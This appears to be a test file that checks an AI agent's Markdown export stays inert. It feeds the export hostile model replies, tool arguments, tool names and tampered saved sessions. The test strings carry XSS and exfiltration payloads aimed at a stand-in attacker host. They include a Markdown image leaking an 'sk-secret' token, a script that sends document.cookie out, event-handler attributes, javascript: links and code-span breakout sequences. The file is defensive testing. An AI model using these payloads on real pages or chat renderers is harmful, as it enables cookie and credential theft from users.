"""The Markdown export is inert wherever it is rendered: a hostile session (model text, tool arguments
and output, a tool's name, and a saved file's notices, server and error) exported with ``%agent export
PATH.md`` and rendered as GitHub, VS Code or JupyterLab would (CommonMark with raw HTML on, tables,
strikethrough) shows no image, no raw HTML element and no link but http(s) or mailto.

A scripted model through the real agent; the saved file edited as an attacker would, then loaded back.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from twinny_magics.agent import Agent
from twinny_magics.conversation import ToolCall
from twinny_magics.display import markdown as export_markdown
from twinny_magics.servers.scripted import Scripted, ScriptedServer

ATTACKER = "https://attacker.example"
ANSWER = f"""\
Here is what I found: ![chart]({ATTACKER}/a.png?q=sk-secret) and <img src={ATTACKER}/b.png onerror=alert(1)>.

<div onclick="alert(2)"><iframe src="{ATTACKER}/frame"></iframe></div>

<script>fetch("{ATTACKER}/c?" + document.cookie)</script>

[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [ok]({ATTACKER}/page)
<javascript:alert(5)> <{ATTACKER}/auto> [ref image][logo] ![also][logo]

[logo]: {ATTACKER}/d.png

| col | `code \\| <img src=x>` |
| --- | --- |
| <b>x</b> | ![t]({ATTACKER}/e.png) |

```python
print("a fenced block of the model's own")
```

<!-- a comment --> &lt;img src=x&gt; <a href="javascript:alert(6)">a</a>
"""
# A tool's arguments and output with backticks in them, to break out of their code span and fence.
BREAKOUT = f"x` ![arg]({ATTACKER}/f.png) <img src={ATTACKER}/g.png> `"
FILE = f"````\n```\n![out]({ATTACKER}/h.png)\n<img src={ATTACKER}/i.png>\n```\n"
HOSTILE_NAME = f"<img src={ATTACKER}/name.png>"

#: What Markdown makes of itself; anything else in the rendered page came from raw HTML.
MARKDOWN_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Page(HTMLParser):
    """The elements a browser would make of the rendered page, and the comments it would keep."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def rendered(markdown: str) -> str:
    """The Markdown as a GitHub-like renderer shows it: raw HTML on."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return md.render(markdown)


def assert_inert(markdown: str) -> Page:
    page = Page(rendered(markdown))
    for tag, attrs in page.tags:
        assert tag in MARKDOWN_TAGS, (tag, attrs)  # no <img>, no raw tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, attrs)
            assert name in {"href", "class", "style", "start"}, (tag, attrs)
            if name == "href":
                assert (value or "").startswith(("https://", "http://", "mailto:")), (tag, attrs)
    assert page.comments == []
    return page


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "notes.md").write_text(FILE)
    return root


def hostile_session(root: Path) -> Agent:
    server = ScriptedServer(
        [
            Scripted("", calls=(ToolCall("read_file", {"path": "notes.md"}),)),
            Scripted("", calls=(ToolCall("grep", {"pattern": BREAKOUT}),)),
            Scripted("", calls=(ToolCall(HOSTILE_NAME, {"x": BREAKOUT}),)),
            ANSWER,
        ]
    )
    agent = Agent(server=server, workspace=root, steps=6)
    agent.run(f"Summarize notes.md ![q]({ATTACKER}/question.png) <b onmouseover=alert(7)>now</b>")
    return agent


def test_a_hostile_session_exports_to_markdown_that_renders_nothing_live(project: Path) -> None:
    agent = hostile_session(project)
    markdown = agent.export(project / "t.md").read_text()
    page = assert_inert(markdown)
    links = [attrs.get("href") for tag, attrs in page.tags if tag == "a"]
    assert f"{ATTACKER}/page" in links  # an http(s) link stays a link
    html = rendered(markdown)
    # What was an image or raw HTML is shown, as text.
    assert f"[image: chart — {ATTACKER}/a.png?q=sk-secret]" in html
    assert "&lt;img src=" in html
    assert "&lt;script&gt;fetch(" in html
    assert "javascript:alert(3)" in html  # the address shown as text, not as a link
    # The tool's output and arguments are still there, inside their code.
    codes = [part.split("</code>", 1)[0] for part in html.split("<code")[1:]]
    assert any(f"3: ![out]({ATTACKER}/h.png)\n4: &lt;img src={ATTACKER}/i.png&gt;" in code for code in codes)
    assert any(f"pattern='x` ![arg]({ATTACKER}/f.p" in code for code in codes)
    assert any(f"x='x` ![arg]({ATTACKER}/f.p" in code for code in codes)
    # A table the model wrote is a table, its cells as inert as the rest.
    assert "<table>" in html
    assert "<code>code | &lt;img src=x&gt;</code>" in html


ONE_HOLE = {
    "an image in the answer": [f"Done ![x]({ATTACKER}/?q=sk-secret)"],
    "a reference image in the answer": [f"Done ![x][r]\n\n[r]: {ATTACKER}/r.png"],
    "a backtick in a tool argument": [
        # Short enough to survive the call's one-line summary whole.
        Scripted("", calls=(ToolCall("grep", {"pattern": "a` ![x](https://a.bc/i) `"}),)),
        "Done.",
    ],
    "raw HTML in a tool's name": [
        Scripted("", calls=(ToolCall(f"<img src={ATTACKER}/name.png>", {}),)),
        "Done.",
    ],
    "a link that is not http(s) or mailto": [f"[x](<javascript:alert(1)>) [y](ftp://{ATTACKER[8:]}/f)"],
}


@pytest.mark.parametrize("hole", sorted(ONE_HOLE))
def test_each_hostile_piece_alone_exports_inert(project: Path, hole: str) -> None:
    agent = Agent(server=ScriptedServer(list(ONE_HOLE[hole])), workspace=project, steps=4)
    agent.run("Look.")
    assert_inert(agent.export(project / "t.md").read_text())


def test_a_saved_session_edited_by_an_attacker_exports_inert(project: Path) -> None:
    path = hostile_session(project).save(project / "s.json")
    data = json.loads(path.read_text())
    reply = data["replies"][0]
    reply["notices"] = [
        {"kind": f"<img src={ATTACKER}/kind.png>", "text": f"![n]({ATTACKER}/n.png)\n<iframe src=x>"}
    ]
    reply["error"] = f"failed\n\n<img src={ATTACKER}/error.png>\n![e]({ATTACKER}/e2.png)"
    reply["stopped"] = f"<img src={ATTACKER}/stopped.png>"
    data["server"]["kind"] = f"<img src={ATTACKER}/server.png>"
    data["server"]["model"] = f"![m]({ATTACKER}/model.png)"
    data["saved_at"] = "<script>alert(8)</script>"
    path.write_text(json.dumps(data))
    loaded = Agent.load(path, server=ScriptedServer([]), workspace=project)
    markdown = loaded.export(project / "again.md").read_text()
    assert_inert(markdown)
    html = rendered(markdown)
    assert f"&lt;img src={ATTACKER}/kind.png&gt;" in html  # the kind is shown as text


@pytest.mark.parametrize(
    "text",
    [
        "a`b",
        "``x``",
        "`",
        " `lead",
        "trail` ",
        f"x ``` ![i]({ATTACKER}/j.png) ````` <img src=x>",
        "line\nbreak <img src=x>",
    ],
)
def test_a_code_span_holds_any_run_of_backticks(text: str) -> None:
    page = assert_inert(f"- **call** {export_markdown.code_span(text)} after")
    html = rendered(f"{export_markdown.code_span(text)}")
    assert html.count("<code>") == 1
    shown = html.split("<code>", 1)[1].split("</code>", 1)[0]
    expected = " ".join(text.splitlines())
    escaped = expected.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    assert shown == escaped
    assert page.tags


@pytest.mark.parametrize(
    "text",
    [
        "# not a heading",
        "1. not a list",
        "- not a list",
        "> not a quote",
        "    not code",
        "=== not a heading line",
        "read_file and _emphasis_ and *stars* and ~~strike~~ | pipe | [x](https://x)",
        "&lt;img src=x&gt; &amp; <img src=x>",
        "C# issue #26 ends with #",
        "\\ back\\slash \\*",
    ],
)
def test_plain_text_shows_as_itself(text: str) -> None:
    markdown = export_markdown.markdown_text(text)
    html = rendered(markdown)
    assert_inert(markdown)
    assert html.startswith("<p>"), html
    assert html.endswith("</p>\n"), html
    body = html[3:-5]
    expected = " ".join(text.split())
    assert body == expected.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
        '"', "&quot;"
    )


def test_the_models_formatting_survives_and_nothing_else() -> None:
    text = (
        "# Title\n\nSome *em*, **strong**, ~~gone~~, `code`, [docs](https://docs.example/a_(b)).\n\n"
        "- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```py\nx = 1\n```\n\n"
        "| a | b |\n| :-- | --: |\n| 1 | 2 |\n"
    )
    out = export_markdown.inert_markdown(text)
    assert_inert(out)
    assert rendered(out) == rendered(text)


PIECES = st.sampled_from(
    [
        "![", "[", "]", "(", ")", "<", ">", "`", "```", "~~~", "*", "_", "|", "\n", "\n\n", "- ", "1. ", "> ",
        "    ", "#", "&", "&lt;", "\\", ":", "!", "=", "-", "img src=x", "https://a.bc/i", "javascript:",
        "[r]: https://a.bc/r", "[r]", "x", " ", '"', "![x](https://a.bc/i)", "<img src=x>", "<b>", "</b>",
        "[x](javascript:alert(1))", "![r]", "<https://a.bc>", "<!-- c -->", "`x`",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join))
@settings(max_examples=300)
def test_any_mix_of_markdown_syntax_comes_out_inert(text: str) -> None:
    assert_inert(export_markdown.inert_markdown(text))
    assert_inert(export_markdown.markdown_text(text))
    assert_inert(export_markdown.markdown_lines(text))
    assert_inert("x " + export_markdown.code_span(text) + " y")
